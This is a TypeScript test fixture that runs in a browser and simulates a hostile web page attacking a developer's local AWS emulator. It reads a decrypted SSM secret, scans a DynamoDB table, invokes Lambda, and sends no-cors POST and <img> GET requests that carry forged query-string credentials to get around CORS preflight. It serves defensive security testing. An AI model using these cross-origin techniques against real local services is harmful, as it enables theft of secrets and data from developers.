// Runs in the browser (bundled by esbuild for integration/browser-attacks.test.ts): what a hostile web page open in
// a developer's browser can try against the local emulator. It knows everything public about the kit: the endpoint,
// the resource names and the emulator's well-known `test` credentials, and uses the real AWS SDK as a page would.
import { DynamoDBClient, ScanCommand } from '@aws-sdk/client-dynamodb';
import { InvokeCommand, LambdaClient } from '@aws-sdk/client-lambda';
import { GetParameterCommand, SSMClient } from '@aws-sdk/client-ssm';

// The few DOM members used here; the project's type check has no DOM library.
declare const document: {
  createElement(tag: 'img'): { src: string; onload: (() => void) | null; onerror: (() => void) | null };
};

export interface Targets {
  readonly parameterName: string;
  readonly tableName: string;
  readonly functionName: string;
}

/** answered: the page read a response (detail is what it read); failed: it got an error; sent: it cannot tell. */
export interface AttackResult {
  readonly attack: string;
  readonly outcome: 'answered' | 'failed' | 'sent';
  readonly detail: string;
}

export const ATTACKS = {
  readKey: 'SDK: SSM GetParameter of the API key, decrypted (preflighted)',
  scanTable: 'SDK: DynamoDB Scan of the customers table (preflighted)',
  invoke: 'SDK: Lambda Invoke of the function (preflighted)',
  simpleInvoke: 'fetch: Lambda Invoke as a simple POST (text/plain, credentials in the query, no preflight)',
  imageGet: '<img>: Lambda ListFunctions as a no-cors GET (credentials in the query, no Origin header)',
} as const;

// SigV4 query parameters naming the `test` key: MiniStack treats it as root and never checks its signature, so a page
// needs no header (and so no preflight) to be authenticated, even with AUTH=true.
const QUERY_CREDENTIALS = new URLSearchParams({
  'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
  'X-Amz-Credential': 'test/20261201/us-east-1/lambda/aws4_request',
  'X-Amz-Date': '20261201T000000Z',
  'X-Amz-Expires': '900',
  'X-Amz-SignedHeaders': 'host',
  'X-Amz-Signature': '0'.repeat(64),
}).toString();

const ATTACK_TIMEOUT_MS = 10_000;

async function attempt(attack: string, run: () => Promise<Pick<AttackResult, 'outcome' | 'detail'>>): Promise<AttackResult> {
  try {
    const timeout = new Promise<never>((_, reject) =>
      setTimeout(() => reject(new Error(`no answer in ${ATTACK_TIMEOUT_MS} ms`)), ATTACK_TIMEOUT_MS));
    return { attack, ...(await Promise.race([run(), timeout])) };
  } catch (error) {
    const { name, message } = error as Error;
    return { attack, outcome: 'failed', detail: `${name}: ${message}` };
  }
}

export async function runAttacks(emulator: string, targets: Targets): Promise<AttackResult[]> {
  const config = {
    endpoint: emulator,
    region: 'us-east-1',
    credentials: { accessKeyId: 'test', secretAccessKey: 'test' },
    maxAttempts: 1,
  };
  const answered = (detail: string) => ({ outcome: 'answered' as const, detail });
  const sent = { outcome: 'sent' as const, detail: 'opaque response' };
  return [
    await attempt(ATTACKS.readKey, async () => {
      const { Parameter } = await new SSMClient(config).send(
        new GetParameterCommand({ Name: targets.parameterName, WithDecryption: true }),
      );
      return answered(Parameter?.Value ?? '');
    }),
    await attempt(ATTACKS.scanTable, async () => {
      const { Items } = await new DynamoDBClient(config).send(new ScanCommand({ TableName: targets.tableName }));
      return answered(JSON.stringify(Items));
    }),
    await attempt(ATTACKS.invoke, async () => {
      const { Payload } = await new LambdaClient(config).send(new InvokeCommand({ FunctionName: targets.functionName }));
      return answered(new TextDecoder().decode(Payload));
    }),
    await attempt(ATTACKS.simpleInvoke, async () => {
      await fetch(`${emulator}/2015-03-31/functions/${targets.functionName}/invocations?${QUERY_CREDENTIALS}`, {
        method: 'POST',
        mode: 'no-cors',
        headers: { 'content-type': 'text/plain' },
        body: '{}',
      });
      return sent;
    }),
    await attempt(ATTACKS.imageGet, () => new Promise((resolve) => {
      const image = document.createElement('img');
      image.onload = image.onerror = () => resolve(sent);
      image.src = `${emulator}/2015-03-31/functions?${QUERY_CREDENTIALS}`;
    })),
  ];
}

(globalThis as { runAttacks?: typeof runAttacks }).runAttacks = runAttacks;
